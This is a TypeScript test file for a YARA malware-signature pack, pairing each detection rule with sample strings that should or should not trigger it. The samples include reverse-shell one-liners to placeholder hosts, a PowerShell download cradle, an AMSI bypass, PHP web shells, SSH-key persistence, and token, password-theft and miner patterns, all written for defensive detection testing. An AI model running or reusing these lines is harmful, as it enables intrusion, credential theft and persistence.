import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { test } from 'node:test';
import { loadSignatureEngine } from '../../../src/yara/load-engine.ts';

/** Texts are our own and inert: they have a pattern's shape and none of its function. */
interface Example {
  fires: (string | Uint8Array)[];
  silent: (string | Uint8Array)[];
}

const A = (count: number) => 'A'.repeat(count);
const bytes = (...parts: (string | number[] | Uint8Array)[]) =>
  Buffer.concat(
    parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : Buffer.from(part))),
  );
const ELF = [0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0];

const EXAMPLES: Record<string, Example> = {
  eicar_test_file: {
    fires: [['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-', 'ANTIVIRUS-TEST-FILE!$H+H*'].join('')],
    silent: ['a text about EICAR', [' X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR'].join('')],
  },
  pyarmor: {
    fires: [
      'from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b"PY00")',
      '# comment\nfrom .pyarmor_runtime import __pyarmor__\n',
      "__pyarmor__(__name__, __file__, b'\\x50\\x59\\x41\\x52')",
    ],
    silent: ['Install pyarmor and call __pyarmor__ as documented.', 'import pyarmor'],
  },
  sourcedefender: {
    fires: ['---BEGIN PYE FILE---\nabc\n---END PYE FILE---\n'],
    silent: ['import sourcedefender', 'The header is ---BEGIN PYE FILE---\n'],
  },
  reversed_zlib_lambda: {
    fires: ["_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));"],
    silent: ["f = lambda x: __import__('zlib').decompress(x)", 'lambda x: base64.b64decode(x[::-1])'],
  },
  exec_of_encoded_literal: {
    fires: [
      `exec(base64.b64decode('${A(90)}'))`,
      `exec(marshal.loads(zlib.decompress(base64.b64decode(b"${A(90)}"))))`,
      `eval(compile(__import__('base64').b64decode("""${A(90)}"""), '', 'exec'))`,
      `exec(bytes.fromhex('${A(90)}').decode())`,
    ],
    silent: [
      `exec(base64.b64decode('${A(20)}'))`,
      `data = base64.b64decode('${A(90)}')\nexec(code)`,
      'exec(base64.b64decode(payload))',
      `execute(b64decode('${A(20)}'))`,
    ],
  },
  exec_of_decrypted_literal: {
    fires: [`exec(Fernet(b'${A(43)}=').decrypt(b'gAAAAA'))`],
    silent: [`print(Fernet(b'${A(43)}=').decrypt(b'gAAAAA'))`, 'exec(Fernet(key).decrypt(token))'],
  },
  named_python_obfuscator: {
    fires: [
      '# Obfuscated with BlankOBF\nprint(1)',
      '__obfuscator__ = "name"',
      "pyobfuscate=(lambda x:x)\npyobfuscate = ({'a",
    ],
    silent: ['# The code is obfuscated by hand', 'def pyobfuscate(): pass'],
  },
  upx_packed_binary: {
    fires: [
      bytes('MZ', Buffer.alloc(400), 'UPX0', Buffer.alloc(36), 'UPX1', Buffer.alloc(100), 'UPX!'),
      bytes(ELF, Buffer.alloc(200), 'UPX!', Buffer.alloc(9000), 'UPX!'),
    ],
    silent: ['UPX! UPX0 UPX1', bytes(ELF, Buffer.alloc(9000), 'UPX!')],
  },
  pyinstaller_program: {
    fires: [bytes(ELF, Buffer.alloc(9000), 'MEI', [0x0c, 0x0b, 0x0a, 0x0b, 0x0e], Buffer.alloc(80))],
    silent: [
      bytes(ELF, 'MEI', [0x0c, 0x0b, 0x0a, 0x0b, 0x0e], Buffer.alloc(9000)),
      bytes('MEI', [0x0c, 0x0b, 0x0a, 0x0b, 0x0e], Buffer.alloc(9000)),
    ],
  },
  nuitka_onefile_program: {
    fires: [bytes('MZ', Buffer.alloc(120_000), 'KAY', [0x28, 0xb5, 0x2f, 0xfd])],
    silent: [bytes('KAY', [0x28, 0xb5, 0x2f, 0xfd], Buffer.alloc(120_000))],
  },
  javascript_obfuscator: {
    fires: [`function _0x1a2b(){var _0x3c4d=['a'];}${'_0x1a2b(_0x3c4d);'.repeat(30)}`],
    silent: ["function _0x1a2b(){var _0x3c4d=['a'];}", 'var _0x1a2b = 1;'.repeat(100)],
  },
  windows_program_in_text: {
    fires: [
      `x = "TVqQAAMAAAAEAAAA//8AALgAAAA${A(220)}"`,
      `4D5A90000300000004000000FFFF0000B8000000${'0'.repeat(220)}`,
      "b'MZ\\x90\\x00\\x03\\x00\\x00\\x00\\x04\\x00\\x00\\x00\\xff\\xff'",
    ],
    silent: [
      'magic = "TVqQAAMAAAAEAAAA"',
      "if data[:2] == b'MZ': pass",
      bytes('MZ', `TVqQAAMAAAAEAAAA//8AALgAAAA${A(220)}`),
    ],
  },
  linux_program_in_text: {
    fires: [`f0VMRgIBAQ${A(320)}`, `7f454c46020101${'0'.repeat(320)}`],
    silent: ['f0VMRgIBAQ', "b'\\x7fELF\\x02\\x01\\x01'"],
  },
  metasploit_shellcode: {
    fires: [
      bytes('ab', [0xfc, 0x48, 0x83, 0xe4, 0xf0, 0xe8, 0xc0, 0, 0, 0, 0x41, 0x51, 0x41, 0x50, 0x52]),
      'b = b"\\xfc\\xe8\\x82\\x00\\x00\\x00\\x60\\x89\\xe5"',
      '0xfc, 0x48, 0x83, 0xe4, 0xf0, 0xe8, 0xc0, 0x00',
    ],
    silent: ['b = b"\\xfc\\xe8\\x01\\x00\\x00\\x00"', bytes([0xfc, 0x48, 0x83, 0xe4, 0xf0])],
  },
  shell_script_compiler: {
    fires: [
      '#!/bin/sh\ntail -n +3 "$0" | gunzip > /tmp/x\n',
      `#!/usr/bin/env bash\neval "$(echo ${A(130)} | base64 -d)"\n`,
    ],
    silent: ['#!/bin/sh\ntail -n +3 log | less\n', 'tail -n +3 "$0" | gunzip'],
  },
  python_reverse_shell: {
    fires: [
      's = socket.socket()\n[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\npty.spawn("/bin/sh")',
      "s=socket.socket();os.dup2(s.fileno(),0);os.dup2(s.fileno(),1)\nsubprocess.call(['/bin/sh','-i'])",
    ],
    silent: [
      's = socket.socket()\nos.dup2(s.fileno(), 0)\nserve(s)',
      'os.dup2(f.fileno(),0);os.dup2(f.fileno(),1)\nsubprocess.call(["/bin/sh"])',
    ],
  },
  shell_reverse_shell: {
    fires: [
      'bash -i >& /dev/tcp/192.0.2.1/99 0>&1',
      'nc -e /bin/sh host.invalid 99',
      '$c = New-Object Net.Sockets.TCPClient("host.invalid",99); $s=$c.GetStream(); iex $d',
    ],
    silent: [
      'echo > /dev/tcp/192.0.2.1/99',
      'nc -l 99',
      '$c = New-Object Net.Sockets.TCPClient("host.invalid",99)',
    ],
  },
  meterpreter_python_stager: {
    fires: ["l=struct.unpack('>I',s.recv(4))[0]\nexec(zlib.decompress(base64.b64decode(d)),{'s':s})"],
    silent: ["l = struct.unpack('>I', s.recv(4))[0]\ndata = s.recv(l)", "exec(code, {'s': s})"],
  },
  remote_thread_injection: {
    fires: ['import ctypes\n# OpenProcess VirtualAllocEx WriteProcessMemory CreateRemoteThread'],
    silent: [
      'import ctypes\n# OpenProcess ReadProcessMemory',
      'OpenProcess VirtualAllocEx WriteProcessMemory CreateRemoteThread',
    ],
  },
  script_interface_bypass: {
    fires: [
      "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed')",
      'ctypes AmsiScanBuffer VirtualProtect',
    ],
    silent: ['AmsiScanBuffer returns a result', 'System.Management.Automation.AmsiUtils'],
  },
  powershell_download_cradle: {
    fires: [
      'powershell -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://host.invalid/a\')"',
      `powershell -nop -enc JABh${A(50)}`,
    ],
    silent: [
      "IEX ((New-Object Net.WebClient).DownloadString('https://install.example/install.ps1'))",
      'powershell -enc $text',
      'gcc -e main JABh',
    ],
  },
  discord_token_theft: {
    fires: [
      "re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', t)\nre.findall(r'mfa\\.[\\w-]{84}', t)\n'Local Storage'",
      'split("dQw4w9WgXcQ:")[1]\n"leveldb"',
    ],
    silent: [
      "TOKEN = re.compile(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}')",
      'leveldb in Local Storage',
      'watch?v=dQw4w9WgXcQ leveldb',
    ],
  },
  browser_password_theft: {
    fires: ['SELECT password_value FROM logins\n"Login Data" "Local State" encrypted_key AES.MODE_GCM'],
    silent: [
      '"Local State" encrypted_key AES.MODE_GCM Cookies',
      'Login Data is where browsers keep password_value',
    ],
  },
  named_stealer: {
    fires: ['# Blank Grabber\n"https://discord.com/api/webhooks/0/a"', 'Luna-Grabber "Login Data" "leveldb"'],
    silent: [
      'Families such as Blank Grabber and W4SP Stealer are common.',
      'https://discord.com/api/webhooks/0/a',
    ],
  },
  discord_client_injection: {
    fires: ['p = "discord_desktop_core/index.js"\nopen(p, "w").write(WEBHOOK)'],
    silent: ['discord_desktop_core/index.js', 'open("index.js", "w").write(webhook)'],
  },
  wallet_address_swap: {
    fires: ["btc = r'[13][a-km-zA-HJ-NP-Z1-9]{25,34}'\neth = r'0x[a-fA-F0-9]{40}'\npyperclip.paste()"],
    silent: [
      "eth = r'0x[a-fA-F0-9]{40}'\npyperclip.paste()",
      "btc = r'[13][a-km-zA-HJ-NP-Z1-9]{25,34}'\neth = r'0x[a-fA-F0-9]{40}'",
    ],
  },
  foreign_ssh_key: {
    fires: [
      `echo ssh-rsa AAAA${A(100)} me@host >> ~/.ssh/authorized_keys`,
      `k = 'ssh-ed25519 AAAA${A(64)}'\nopen(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write(k)`,
    ],
    silent: [
      "open(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write(key)",
      `KEY = 'ssh-ed25519 AAAA${A(64)}'`,
    ],
  },
  crypto_miner: {
    fires: [
      './xmrig -o stratum+tcp://pool.invalid:3333 -u wallet --donate-level 1',
      '{"algo": "rx/0", "donate-level": 1, "agent": "xmrig"}',
    ],
    silent: ['stratum+tcp://pool.invalid:3333', 'xmrig is a miner'],
  },
  php_web_shell: {
    fires: ["<?php @eval(base64_decode($_POST['x'])); ?>", '<?= `$_GET[0]` ?>'],
    silent: ["<?php echo htmlspecialchars($_POST['x']); ?>", "eval($_POST['x'])"],
  },
  java_or_asp_web_shell: {
    fires: ['<% Runtime.getRuntime().exec(request.getParameter("c")); %>', '<%eval request("x")%>'],
    silent: ['Runtime.getRuntime().exec("ls")', '<%= request("x") %>'],
  },
  ransom_note: {
    fires: ['"All your files have been encrypted. Send bitcoin"\nos.walk("/")\nf.encrypt(x)'],
    silent: ['Your files have been encrypted. Send bitcoin', 'os.walk("/")\nf.encrypt(x)  # bitcoin'],
  },
};

const { engine, limitations } = await loadSignatureEngine();
const absent = engine.info.engine === null ? engine.info.note : false;

test('the own pack compiles', { skip: absent }, () => {
  assert.deepEqual(limitations, []);
  assert.deepEqual(engine.info, { engine: 'yara-x', packs: ['lazaret'], note: '' });
});

test('every rule of the own pack has examples', async () => {
  const source = await readFile(new URL('../../../yara/lazaret.yar', import.meta.url), 'utf8');
  const names = [...source.matchAll(/^rule (\w+)/gm)].map(([, name]) => name!);
  assert.deepEqual(Object.keys(EXAMPLES).sort(), names.sort());
});

function rulesOf(content: string | Uint8Array): string[] {
  const { matches, limitation } = engine.scan(
    'sample',
    typeof content === 'string' ? Buffer.from(content) : content,
  );
  assert.equal(limitation, null);
  return matches.map(({ name }) => name);
}

for (const [rule, { fires, silent }] of Object.entries(EXAMPLES)) {
  test(`own pack: ${rule}`, { skip: absent }, () => {
    for (const content of fires)
      assert.deepEqual(rulesOf(content), [`lazaret/${rule}`], String(content).slice(0, 200));
    for (const content of silent)
      assert.ok(!rulesOf(content).includes(`lazaret/${rule}`), String(content).slice(0, 200));
  });
}
